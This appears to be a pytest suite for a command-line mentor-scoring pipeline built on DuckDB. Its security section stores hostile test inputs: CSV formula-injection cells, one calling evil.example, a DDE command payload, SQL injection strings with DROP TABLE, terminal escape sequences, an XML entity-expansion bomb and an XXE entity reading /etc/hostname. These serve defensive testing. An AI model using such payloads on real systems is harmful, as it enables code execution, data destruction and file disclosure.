import csv
import io
import json

import pytest

from pipelines.cli import main
from pipelines.settings import parse_duration


@pytest.fixture
def scored(tmp_path, warehouse_path, capsys):
    events = tmp_path / "events.jsonl"
    assert main(["generate", "--out", str(events), "--seed", "3", "--invalid-rate", "0.01"]) == 0
    assert main(["run", "--input", str(events), "--warehouse", warehouse_path]) == 0
    out = capsys.readouterr().out
    truth = [json.loads(line) for line in (tmp_path / "events.truth.jsonl").read_text().splitlines()]
    return warehouse_path, out, truth


def test_run_prints_a_summary_that_balances(scored):
    _, out, _ = scored
    for label in ("records in", "scored", "skipped", "duplicates", "dead-lettered", "time taken"):
        assert label in out
    assert "accounting      balanced" in out


def test_query_mentors_names_the_planted_mentor(scored, capsys):
    warehouse, _, truth = scored
    pair = truth[0]
    assert main(["query", "mentors", "--reader", pair["reader_id"], "--warehouse", warehouse, "--format", "jsonl"]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert rows[0]["author_id"] == pair["author_id"]
    assert rows[0]["last_interaction_at"].endswith("Z")


def test_query_regulars_and_pair_print_tables(scored, capsys):
    warehouse, _, truth = scored
    pair = truth[0]
    assert main(["query", "regulars", "--author", pair["author_id"], "--top", "3", "--warehouse", warehouse]) == 0
    table = capsys.readouterr().out.splitlines()
    assert table[0].split()[:3] == ["site", "reader_id", "strength"] and 1 < len(table) <= 4
    assert main(["query", "pair", "--author", pair["author_id"], "--reader", pair["reader_id"],
                 "--warehouse", warehouse]) == 0
    explained = capsys.readouterr().out
    assert f"{pair['author_id']} (mentor)" in explained and "weight 4" in explained and "mentor_activity" in explained
    # the formula line shows the weights the SQL used, not a copy that can drift from them
    # (a weight multiplies its factor: "1 comments" read as a count, an outside probe said)
    assert "= ln(1 + 1*comments + 4*replies + 8*quick_replies) + 0.5*ln(1 + mentor_activity) " \
           "+ 0.5*ln(1 + mentee_activity)" in explained, explained
    assert main(["query", "history", "--author", pair["author_id"], "--reader", pair["reader_id"],
                 "--warehouse", warehouse]) == 0
    assert "mentor_score" in capsys.readouterr().out
    assert main(["query", "top", "--top", "2", "--as-of", "2026-01-20", "--warehouse", warehouse, "--format", "jsonl"]) == 0
    top = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert len(top) == 2 and {t["as_of"] for t in top} == {"2026-01-20T00:00:00.000000Z"}


def test_evaluate_prints_the_strength_against_the_baselines(scored, tmp_path, capsys):
    warehouse, _, truth = scored
    actors = tmp_path / "actors.jsonl"
    # An outside signal that ranks planted mentors above their mentees.
    actors.write_text("".join(json.dumps({"site": p["site"], "actor_id": a, "signal": s}) + "\n"
                              for p in truth for a, s in ((p["author_id"], 10), (p["reader_id"], 1))))
    assert main(["evaluate", "--period", "7d", "--actors", str(actors), "--warehouse", warehouse]) == 0
    out = capsys.readouterr().out
    for ranking in ("| strength |", "| decayed reader_comments |", "| decayed reader_comments + author_replies |",
                    "| decayed sum of window mentor_score |", "| strength's mentor side (more partners) |"):
        assert ranking in out


def test_query_as_of_a_window_end_counts_the_reply_written_before_it(tmp_path, warehouse_path, capsys):
    # One week (Monday T0 to the next Monday): R comments on A's post on Saturday and A answers within
    # the hour; R comments again on Sunday at 23:50 and A answers on Monday at 00:10. Both answers
    # are credited to the week; as of its end, the Saturday answer was written and counts (quick, by
    # its own latency: schema version 5), where the late one made the whole week count no reply.
    from helpers import DAY_MS, HOUR_MS, T0

    end = T0 + 7 * DAY_MS
    items = [("p1", "POST", "A", T0 + HOUR_MS, None), ("c1", "COMMENT", "R", T0 + 5 * DAY_MS + 10 * HOUR_MS, "p1"),
             ("r1", "REPLY", "A", T0 + 5 * DAY_MS + 11 * HOUR_MS, "c1"), ("c2", "COMMENT", "R", end - 600_000, "p1"),
             ("r2", "REPLY", "A", end + 600_000, "c2")]
    events = tmp_path / "events.jsonl"
    events.write_text("".join(json.dumps(record(event_id=f"e-{item}", kind=kind, item_id=item, actor_id=actor,
                                                created_at=at, parent_id=parent)) + "\n"
                              for item, kind, actor, at, parent in items))
    assert main(["run", "--input", str(events), "--warehouse", warehouse_path]) == 0
    capsys.readouterr()
    assert main(["query", "pair", "--author", "A", "--reader", "R", "--as-of", "2026-03-09",
                 "--warehouse", warehouse_path, "--format", "jsonl"]) == 0
    (pair,) = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert pair["mentor_replies"] + pair["mentee_replies"] == 1 and pair["two_way"] is True
    assert pair["replies"] == pytest.approx(1.0, rel=1e-3)  # decayed from Sunday 23:50 (10 minutes)
    assert pair["quick_replies"] == pytest.approx(pair["replies"] / 2)  # answered in an hour
    assert main(["query", "pair", "--author", "A", "--reader", "R", "--warehouse", warehouse_path,
                 "--format", "jsonl"]) == 0  # the newest data: both answers
    (pair,) = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert pair["mentor_replies"] + pair["mentee_replies"] == 2


def test_export_writes_whole_tables_as_csv_or_jsonl(scored, capsys):
    warehouse, _, _ = scored
    assert main(["export", "dead_letters", "--format", "csv", "--warehouse", warehouse]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and all(r["origin"].rsplit(":", 1)[1].isdigit() for r in rows)
    assert main(["export", "pair_scores", "--warehouse", warehouse]) == 0
    first = json.loads(capsys.readouterr().out.splitlines()[0])
    assert first["window_start"].endswith("T00:00:00.000000Z")


def test_errors_say_what_to_do(tmp_path, capsys):
    assert main(["run", "--input", str(tmp_path / "nothing-*.avro"), "--warehouse", str(tmp_path / "w.duckdb")]) != 0
    capsys.readouterr()
    # a missing warehouse is the user's to fix: exit 2 (it was 1), in one line
    for command in (["query", "mentors", "--reader", "r"], ["export", "pair_scores"], ["sql", "SELECT 1"],
                    ["evaluate"], ["report", "--out", str(tmp_path / "r.html")]):
        assert main([*command, "--warehouse", str(tmp_path / "absent.duckdb")]) == 2, command
        assert capsys.readouterr().err.startswith("error: no warehouse at"), command
    # a zero score constant is refused before the run (it divided by zero inside the pipeline): by
    # the parser now, as every duration is
    for option, value, message in (("--latency-scale", "0", "'0' must be positive"),
                                   ("--window", "soon", "not a duration")):
        with pytest.raises(SystemExit) as exited:
            main(["run", "--input", "x", option, value, "--warehouse", str(tmp_path / "w.duckdb")])
        assert exited.value.code == 2 and message in capsys.readouterr().err


@pytest.mark.parametrize("argv", [["run", "--bogus"], ["kafka", "status", "--bogus"], ["run", "--window", "soon"],
                                  ["query", "mentors"],
                                  ["query", "nonsense"], ["nonsense"], ["export"]],
                         ids=["unknown option", "unknown kafka option", "bad value", "missing option",
                              "unknown query", "unknown command", "missing argument"])
def test_a_command_line_the_parser_refuses_is_one_line_that_points_at_help(argv, capsys):
    """An outside probe: the README promises one line per error, and argparse printed `run`'s usage
    first (28 lines) above the line that said what was wrong."""
    with pytest.raises(SystemExit) as exited:
        main(argv)
    err = capsys.readouterr().err
    assert exited.value.code == 2
    assert len(err.strip().splitlines()) == 1, err
    assert "error: " in err and err.count("--help") == 1 and "usage:" not in err, err


def test_durations():
    assert [parse_duration(t) for t in ("90", "45s", "30m", "6h", "1d", "2w", "1.5h")] == [
        90, 45, 1800, 21600, 86400, 1209600, 5400]


def test_import_prints_what_was_read_converted_and_skipped(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("SM_KEY", "a-key-of-sixteen-bytes-or-more")
    folder = tmp_path / "tiny"
    folder.mkdir()
    (folder / "Posts.xml").write_text(
        '<posts><row Id="1" PostTypeId="1" CreationDate="2018-03-12T17:00:00.000" OwnerUserId="7" />'
        '<row Id="2" PostTypeId="2" ParentId="1" CreationDate="2018-03-12T18:00:00.000" /></posts>', encoding="utf-8")
    out = tmp_path / "events.jsonl"
    assert main(["import", "stackexchange", str(folder), "--to", f"jsonl:{out}", "--pseudonymize-key-env", "SM_KEY"]) == 0
    printed = capsys.readouterr().out
    assert "records read               2" in printed and "deleted_user" in printed and "Posts.xml:row 2" in printed
    (record,) = [json.loads(line) for line in out.read_text().splitlines()]
    assert record["actor_id"].startswith("u:") and record["site"] == "tiny"


def test_a_killed_run_is_visible_as_partial_to_query_and_export(scored, tmp_path, capsys):
    # Issue 9, item 8: a killed run left a partial warehouse indistinguishable from a complete one.
    import os
    import signal
    import subprocess
    import sys
    import time

    import duckdb

    warehouse, out, truth = scored
    assert main(["query", "mentors", "--reader", truth[0]["reader_id"], "--warehouse", warehouse]) == 0
    assert "did not finish" not in capsys.readouterr().err  # the run before finished
    events = tmp_path / "big.avro"
    assert main(["generate", "--out", str(events), "--scale", "3"]) == 0
    run = subprocess.Popen([sys.executable, "-m", "pipelines.cli", "run", "--input", str(events), "--warehouse", warehouse],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        while True:  # until the run has recorded itself as RUNNING
            assert run.poll() is None and time.monotonic() < deadline
            try:
                with duckdb.connect(warehouse, read_only=True) as connection:
                    if connection.execute("SELECT COUNT(*) FROM runs WHERE status = 'RUNNING'").fetchone()[0]:
                        break
            except duckdb.IOException:
                pass  # the run holds the file for a moment
            time.sleep(0.05)
    finally:
        os.killpg(run.pid, signal.SIGKILL)
        run.wait()
    capsys.readouterr()
    assert main(["query", "mentors", "--reader", truth[0]["reader_id"], "--warehouse", warehouse]) == 0
    err = capsys.readouterr().err
    assert "warning: the newest run" in err and "did not finish (status RUNNING" in err and "may be partial" in err
    assert main(["export", "pair_scores", "--warehouse", warehouse]) == 0
    assert "did not finish" in capsys.readouterr().err


# --- hostile input and security (issue 12) -------------------------------------------------------

import os
import subprocess
import sys
import textwrap
from pathlib import Path

from helpers import E, record, score_row

REPO = Path(__file__).resolve().parents[2]


def cli(*args, cwd=REPO, env=None, timeout=300):
    """The command line in a fresh process, as a user runs it: (exit code, stdout, stderr)."""
    done = subprocess.run([sys.executable, "-m", "pipelines.cli", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})})
    return done.returncode, done.stdout, done.stderr


def one_line_error(err: str) -> str:
    """The failure's one line (progress lines before it, such as waiting for a lock, are not the failure)."""
    lines = [line for line in err.strip().splitlines() if not line.strip().startswith("progress: ")]
    assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in err, err
    return lines[0]


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\tx", "\rx", "\x1b[2J\x1b]0;pwned\x07evil", "\u202eevil.exe"]


@pytest.fixture
def hostile_warehouse(warehouse_path):
    from warehouse import open_warehouse

    open_warehouse(warehouse_path).write_scores(
        [score_row(author, "reader", E, 0.5) for author in HOSTILE] + [score_row("a", "r", E, -0.25)])
    return warehouse_path


def test_csv_output_escapes_cells_a_spreadsheet_would_run(hostile_warehouse, capsys):
    # "reader" talks with all of them, so it is the mentor side: its regulars are the hostile ids
    for command, column in ((["export", "pair_scores"], "author_id"), (["query", "regulars", "--author", "reader"], "reader_id")):
        assert main([*command, "--format", "csv", "--warehouse", hostile_warehouse]) == 0
        rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
        authors = {r[column] for r in rows if r[column] not in ("a", "r")}
        assert authors == {"'" + a if a[0] in "=+-@\t\r" else a for a in HOSTILE}
    assert main(["export", "pair_scores", "--format", "csv", "--warehouse", hostile_warehouse]) == 0
    numbers = [r["mentor_score"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out)) if r["author_id"] == "a"]
    assert numbers == ["-0.25"]  # numbers stay numbers


def test_the_table_shows_control_characters_instead_of_sending_them(hostile_warehouse, capsys):
    assert main(["query", "regulars", "--author", "reader", "--warehouse", hostile_warehouse]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b[2J\\x1b]0;pwned\\x07evil" in out
    assert "\u202e" not in out and "\\u202eevil.exe" in out  # a bidi override would show "exe.live"


def test_bound_sql_parameters_find_nothing_and_break_nothing(hostile_warehouse, capsys):
    for reader in ("reader' OR '1'='1", "x'; DROP TABLE pair_scores; --"):
        assert main(["query", "mentors", "--reader", reader, "--format", "jsonl", "--warehouse", hostile_warehouse]) == 0
        assert capsys.readouterr().out == ""
    assert main(["export", "pair_scores", "--warehouse", hostile_warehouse]) == 0
    assert len(capsys.readouterr().out.splitlines()) == len(HOSTILE) + 1


@pytest.mark.parametrize("args, message", [
    (["query", "mentors", "--reader", "r", "--half-life-days", "0"], "must be above 0"),
    (["query", "mentors", "--reader", "r", "--half-life-days", "nan"], "not a finite number"),
    (["query", "regulars", "--author", "a", "--half-life-days", "inf"], "not a finite number"),
    (["query", "mentors", "--reader", "r", "--top", "-1"], "must be 1 or more"),
    (["query", "mentors", "--reader", "r", "--top", "0"], "must be 1 or more"),
    (["run", "--input", "x", "--comment-saturation", "nan"], "not a finite number"),
    (["run", "--input", "x", "--speed-weight", "2"], "between 0 and 1"),
    (["run", "--input", "x", "--speed-weight", "-0.5"], "between 0 and 1"),
    (["run", "--input", "x", "--speed-weight", "nan"], "not a finite number"),
    (["run", "--input", "x", "--comment-saturation", "0"], "must be above 0"),
    (["run", "--input", "x", "--comment-saturation", "-3"], "must be above 0"),
    (["query", "mentors", "--reader", "r", "--half-life-days", "-1"], "must be above 0"),
    (["generate", "--out", "x", "--invalid-rate", "-0.1"], "between 0 and 1"),
    (["import", "reddit", "x", "--to", "jsonl:y", "--max-line-bytes", "0"], "must be 1 or more"),
])
def test_parameters_out_of_range_are_refused_with_the_reason(args, message, capsys):
    with pytest.raises(SystemExit) as exit_:
        main(args)
    assert exit_.value.code == 2 and message in capsys.readouterr().err


def _hold(path: str, read_only: bool) -> subprocess.Popen:
    """Another process holding the warehouse file open (read-only: a shared lock; else exclusive)."""
    holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
        import sys, duckdb
        connection = duckdb.connect({path!r}, read_only={read_only})
        print("holding", flush=True)
        sys.stdin.read()
    """)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "holding"
    return holder


def test_query_and_export_open_the_warehouse_read_only(hostile_warehouse, capsys):
    holder = _hold(hostile_warehouse, read_only=True)  # a read-write open would conflict with its shared lock
    try:
        assert main(["query", "history", "--author", "a", "--reader", "r", "--format", "jsonl",
                     "--warehouse", hostile_warehouse]) == 0
        assert main(["export", "pair_scores", "--warehouse", hostile_warehouse]) == 0
        assert len(capsys.readouterr().out.splitlines()) == 1 + len(HOSTILE) + 1
    finally:
        holder.communicate("")


@pytest.mark.skipif(os.geteuid() != 0 or not Path("/usr/bin/setpriv").exists(), reason="needs root to become nobody")
def test_a_warehouse_on_a_read_only_file_and_folder_is_readable_and_refused_for_writing(hostile_warehouse):
    import shutil
    import tempfile

    folder = Path(tempfile.mkdtemp(dir="/tmp"))
    try:
        warehouse = folder / "w.duckdb"
        shutil.copy(hostile_warehouse, warehouse)
        warehouse.chmod(0o444)
        folder.chmod(0o555)
        as_nobody = ["/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        probe = subprocess.run([*as_nobody, sys.executable, "-c", "import pipelines.cli"], cwd=REPO, capture_output=True)
        if probe.returncode != 0:
            pytest.skip("user nobody cannot read this checkout or its interpreter")
        query = subprocess.run([*as_nobody, sys.executable, "-m", "pipelines.cli", "export", "pair_scores",
                                "--warehouse", str(warehouse)], cwd=REPO, capture_output=True, text=True, timeout=120)
        assert query.returncode == 0 and len(query.stdout.splitlines()) == len(HOSTILE) + 1, query.stderr
        run = subprocess.run([*as_nobody, sys.executable, "-m", "pipelines.cli", "run", "--input", str(REPO / "setup.py"),
                              "--warehouse", str(warehouse)], cwd=REPO, capture_output=True, text=True, timeout=120)
        assert run.returncode == 2 and "for writing" in one_line_error(run.stderr)
    finally:
        folder.chmod(0o755)
        shutil.rmtree(folder)


@pytest.mark.parametrize("where", ["locked", "memory", "missing folder"])
def test_run_reports_a_warehouse_it_cannot_write_before_the_pipeline_starts(where, tmp_path, capsys):
    events = tmp_path / "events.jsonl"
    events.write_text('{"event_id": "e"}\n')
    warehouse = {"locked": str(tmp_path / "w.duckdb"), "memory": ":memory:",
                 "missing folder": str(tmp_path / "no" / "such" / "w.duckdb")}[where]
    holder = _hold(warehouse, read_only=False) if where == "locked" else None
    try:
        assert main(["run", "--input", str(events), "--warehouse", warehouse]) == 2
    finally:
        if holder:
            holder.communicate("")
    err = capsys.readouterr().err
    line = one_line_error(err)  # and no "Scoring ..." line: the pipeline never started
    assert {"locked": "another process holds it", "memory": "in-memory",
            "missing folder": "folder exists"}[where] in line


def test_a_missing_input_is_one_line_in_a_fresh_process(tmp_path):
    code, _, err = cli("run", "--input", str(tmp_path / "nothing-here.avro"), "--warehouse", str(tmp_path / "w.duckdb"))
    assert code == 2 and "no input file matches" in one_line_error(err)


def test_kafka_errors_are_one_line(tmp_path):
    from services.maven import free_port

    code, _, err = cli("kafka", "status", "--port", str(free_port()), "--state-dir", str(tmp_path / "k"), timeout=120)
    assert code in (0, 1, 2) and "Traceback" not in err
    code, _, err = cli("produce", "--bootstrap-servers", f"127.0.0.1:{free_port()}", "--topic", "t", "--scale", "0.01",
                       timeout=120)
    assert code == 2 and "--bootstrap-servers" in one_line_error(err)


def test_client_errors_that_are_no_runtime_errors_are_one_line_with_what_to_do():
    import duckdb
    from kafka.errors import KafkaTimeoutError

    from pipelines.cli import describe, exit_code

    kafka_error = KafkaTimeoutError("Unable to bootstrap from 127.0.0.1:1")  # not a RuntimeError since kafka-python 2.1
    assert not isinstance(kafka_error, RuntimeError) and exit_code(kafka_error) == 2
    assert describe(kafka_error) == ("Kafka: KafkaTimeoutError: Unable to bootstrap from 127.0.0.1:1; check "
                                     "--bootstrap-servers, that the broker is up, and the topic")
    missing = duckdb.CatalogException("Table with name pair_scores does not exist!\nDid you mean ...")
    assert exit_code(missing) == 2 and "\n" not in describe(missing) and describe(missing).startswith("DuckDB warehouse")
    assert exit_code(TypeError("bug")) == 1
    long = KafkaTimeoutError("x" * 5000)  # a service's long message is cut, never the advice after it
    assert describe(long).endswith("x ...; check --bootstrap-servers, that the broker is up, and the topic")
    assert len(describe(long)) < 700


XML_BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<posts><row Id="1" PostTypeId="1" CreationDate="2018-03-12T17:00:00.000" OwnerUserId="&lol9;" /></posts>"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE posts [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>
<posts><row Id="1" PostTypeId="1" CreationDate="2018-03-12T17:00:00.000" OwnerUserId="&xxe;" /></posts>"""


@pytest.mark.parametrize("xml", [XML_BOMB, XXE], ids=["entity-expansion", "external-entity"])
def test_xml_bombs_and_external_entities_are_refused_in_one_line(xml, tmp_path, capsys):
    (tmp_path / "se").mkdir()
    (tmp_path / "se" / "Posts.xml").write_text(xml)
    out = tmp_path / "events.jsonl"
    assert main(["import", "stackexchange", str(tmp_path / "se"), "--to", f"jsonl:{out}"]) == 2
    line = one_line_error(capsys.readouterr().err)
    assert "Posts.xml: not well-formed XML" in line and not out.exists()


def test_the_stackexchange_example_without_its_dump_is_one_line(tmp_path):
    done = subprocess.run([sys.executable, "docs/stackexchange_example.py", str(tmp_path / "absent")], cwd=REPO,
                          capture_output=True, text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == 2 and "Posts.xml" in one_line_error(done.stderr)


def test_an_unexpected_error_is_one_line_and_verbose_shows_the_traceback(monkeypatch, capsys):
    from pipelines.commands import warehouse as commands

    def broken(args):
        raise TypeError("a bug")

    monkeypatch.setattr(commands, "cmd_export", broken)
    assert main(["export", "pair_scores"]) == 1
    assert "unexpected TypeError: a bug" in one_line_error(capsys.readouterr().err)
    assert main(["-v", "export", "pair_scores"]) == 1
    assert "Traceback" in capsys.readouterr().err


def test_import_to_kafka_takes_the_kafka_security_options(tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("SOCIAL_MENTORS_KAFKA_SASL_PASSWORD", raising=False)
    dump = tmp_path / "dump.ndjson"
    dump.write_text('{"id": "s1", "author": "op", "created_utc": 1420452000, "subreddit": "rust"}\n')
    assert main(["import", "reddit", str(dump), "--to", "kafka://127.0.0.1:1/t", "--security-protocol", "SASL_SSL",
                 "--sasl-mechanism", "SCRAM-SHA-256", "--sasl-username", "u"]) == 2
    assert "SASL password is missing" in one_line_error(capsys.readouterr().err)


def test_the_import_summary_shows_escapes_from_the_archive_as_text(tmp_path, capsys):
    dump = tmp_path / "dump\x1b]0;pwned\x07x.ndjson"  # a skip's example names its file and line
    dump.write_text(json.dumps({"id": "s1", "author": "op", "created_utc": 9_000_000_000}) + "\n")
    assert main(["import", "reddit", str(dump), "--to", f"jsonl:{tmp_path / 'e.jsonl'}"]) == 0
    out = capsys.readouterr().out
    assert "invalid_bad_timestamp" in out and "\x1b" not in out and "\\x1b]0;pwned\\x07x" in out


def test_a_folder_input_or_an_unknown_runner_is_one_line_before_the_run(tmp_path, capsys):
    # both failed mid-run: the run was recorded FAILED, with Beam's error in the accounting line, exit 1
    folder = tmp_path / "events"
    folder.mkdir()
    warehouse = str(tmp_path / "w.duckdb")
    assert main(["run", "--input", str(folder), "--warehouse", warehouse]) == 2
    assert "is a folder: name its files" in one_line_error(capsys.readouterr().err)
    events = tmp_path / "e.jsonl"
    events.write_text(json.dumps(record()) + "\n")
    assert main(["run", "--input", str(events), "--warehouse", warehouse, "--runner", "NoSuchRunner"]) == 2
    assert "Unexpected pipeline runner: NoSuchRunner" in one_line_error(capsys.readouterr().err)
    assert not Path(warehouse).exists()  # nothing was recorded


def test_a_file_name_with_control_characters_is_shown_escaped(tmp_path):
    name = tmp_path / "evil\x1b]0;TITLE\x07.jsonl"
    name.write_text("")
    code, out, err = cli("run", "--input", str(name), "--warehouse", str(tmp_path / "w.duckdb"))
    assert "\x1b" not in out + err and "\x07" not in out + err, err
    assert "evil\\x1b]0;TITLE\\x07.jsonl" in err


def test_an_unknown_option_is_named_without_its_value_which_may_be_a_secret(capsys):
    # without abbreviations (the template argv work), argparse echoed "unrecognized arguments:
    # --sasl-password <the password>"
    with pytest.raises(SystemExit) as exited:
        main(["produce", "--sasl-password", "hunter2-secret", "--topic", "t"])
    err = capsys.readouterr().err
    assert exited.value.code == 2 and "hunter2-secret" not in err
    assert "unknown option --sasl-password (did you mean --sasl-password-env or --sasl-password-file?)" in err


# --- issue 13's outside probe: options of the other source, empty Kafka names, integer ranges -------

import socket


@pytest.mark.parametrize("argv, message", [
    (["--source", "kafka", "--streaming", "--input", "events.avro"],
     "--input belongs to the file source (--source file), not to --source kafka"),
    (["--source=kafka", "--until-end", "--input=a.avro", "--input=b.avro", "--max-record-bytes", "2MiB"],
     "--input belongs to the file source (--source file), not to --source kafka"),
    (["--input", "events.avro", "--topic", "t", "--group_id=g"],
     "--topic, --group-id belong to the Kafka source (--source kafka), not to the file source"),
    (["--input", "events.avro", "--until-end"], "--until-end belongs to the Kafka source"),
])
def test_options_of_the_other_source_are_refused_in_one_line(argv, message, tmp_path, capsys):
    # --input was ignored by a Kafka run, --topic by a file run, silently
    with socket.create_server(("127.0.0.1", 0)) as broker:
        port = broker.getsockname()[1]
        code = main(["run", *argv, "--warehouse", str(tmp_path / "w.duckdb"),
                     *(["--bootstrap-servers", f"127.0.0.1:{port}"] if "kafka" in " ".join(argv) else [])])
        err = capsys.readouterr().err
        assert code == 2 and message in one_line_error(err), err
        broker.setblocking(False)
        with pytest.raises(BlockingIOError):  # refused before any broker contact
            broker.accept()


def test_kafka_options_from_the_environment_do_not_count_as_given_to_a_file_run(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("SOCIAL_MENTORS_KAFKA_SECURITY_PROTOCOL", "SSL")
    code = main(["run", "--input", str(tmp_path / "absent.avro"), "--warehouse", str(tmp_path / "w.duckdb")])
    assert code == 2 and "no input file matches" in capsys.readouterr().err


@pytest.mark.parametrize("empty, named", [
    ("--group-id=", "--group-id"), ("--group_id=", "--group-id"), ("--topic=", "--topic"),
    ("--topic=  ", "--topic"), ("--bootstrap-servers=", "--bootstrap-servers"),
    ("--bootstrap_servers=", "--bootstrap-servers"),
])
def test_an_empty_group_topic_or_bootstrap_is_refused_before_any_broker_contact(empty, named):
    # A fresh process as a deployment starts it; a real listening socket shows no client connected
    # (the run used to connect, then fail or consume under the empty group).
    with socket.create_server(("127.0.0.1", 0)) as broker:
        port = broker.getsockname()[1]
        code, _, err = cli("run", "--source", "kafka", "--until-end", "--kafka-timeout", "600s",
                           f"--bootstrap-servers=127.0.0.1:{port}", empty, timeout=120)
        assert code == 2 and f"argument {named}: must not be empty" in err, err
        broker.setblocking(False)
        with pytest.raises(BlockingIOError):
            broker.accept()


def test_an_empty_group_id_in_the_template_argv_is_refused_before_any_broker_contact():
    with socket.create_server(("127.0.0.1", 0)) as broker:
        port = broker.getsockname()[1]
        done = subprocess.run([sys.executable, str(REPO / "pipelines" / "dataflow_main.py"), "--source=kafka",
                               f"--bootstrap_servers=127.0.0.1:{port}", "--topic=events", "--group_id=",
                               "--warehouse=bigquery://p/d", "--streaming=true"],
                              cwd=REPO, capture_output=True, text=True, timeout=120)
        assert done.returncode == 2 and "argument --group-id: must not be empty" in done.stderr, done.stderr
        broker.setblocking(False)
        with pytest.raises(BlockingIOError):
            broker.accept()


@pytest.mark.parametrize("args, message", [
    (["query", "mentors", "--reader", "r", "--top", "100000000000000000000"], "must be at most 100000"),
    (["query", "mentors", "--reader", "r", "--top", "1e20"], "'1e20' is not a whole number"),
    (["report", "--out", "r.html", "--top", "100000000000000000000"], "must be at most 100000"),
    (["report", "--out", "r.html", "--timelines", "-1"], "must be 0 or more"),
    (["report", "--out", "r.html", "--timelines", "1000"], "must be at most 100"),
    (["status", "--dead-letter-window", "-5"], "must be 1 or more"),
    (["status", "--dead-letter-window", "99999999999"], "must be at most 525600"),
    (["produce", "--live", "--count", "-1"], "must be 1 or more"),
    (["produce", "--schema-id", "0"], "must be 1 or more"),
    (["run", "--source", "kafka", "--schema-id", "99999999999"], "must be at most 2147483647"),
    (["kafka", "start", "--port", "70000"], "is not a TCP port"),
    (["kafka", "start", "--ssl-port", "-1"], "is not a TCP port"),
    (["run", "--input", "x", "--max-id-length", "100000000000000000000"], "must be at most 1000000"),
    (["run", "--input", "x", "--max-record-bytes", "100000GiB"], "must be at most 1GiB"),
    (["import", "reddit", "x", "--to", "jsonl:y", "--max-line-bytes", "100000000000000000000"],
     "must be at most 1073741824"),
])
def test_integer_options_are_bounded_with_the_reason(args, message, capsys, tmp_path, monkeypatch):
    # `--top 100000000000000000000` was accepted (and overflowed the warehouse's LIMIT)
    monkeypatch.chdir(tmp_path)  # what an accepted option would write stays here
    with pytest.raises(SystemExit) as exit_:
        main(args)
    err = capsys.readouterr().err
    assert exit_.value.code == 2 and message in err, err


def test_ctrl_c_while_the_command_starts_is_one_line_and_exit_130(tmp_path):
    """CI, stop 20: Ctrl-C reached a stream while it was still importing Beam (building the parser)
    and printed a 30-line traceback. Here the process sends itself SIGINT when Beam's import begins
    (an audit hook, so the moment does not depend on the machine's load), as an operator's Ctrl-C
    in the first seconds of a run."""
    child = textwrap.dedent(f"""
        import signal, sys

        def on_import(event, args):
            if event == "import" and args[0] == "apache_beam":
                signal.raise_signal(signal.SIGINT)

        sys.addaudithook(on_import)
        import pipelines.cli as cli
        sys.exit(cli.main(["run", "--input", {str(tmp_path / 'none.avro')!r}, "--warehouse", {str(tmp_path / 'w.duckdb')!r}]))
    """)
    done = subprocess.run([sys.executable, "-c", child], cwd=REPO, capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == 130 and "Traceback" not in done.stderr, done.stderr[-3000:]
    assert done.stderr.strip() == "interrupted"
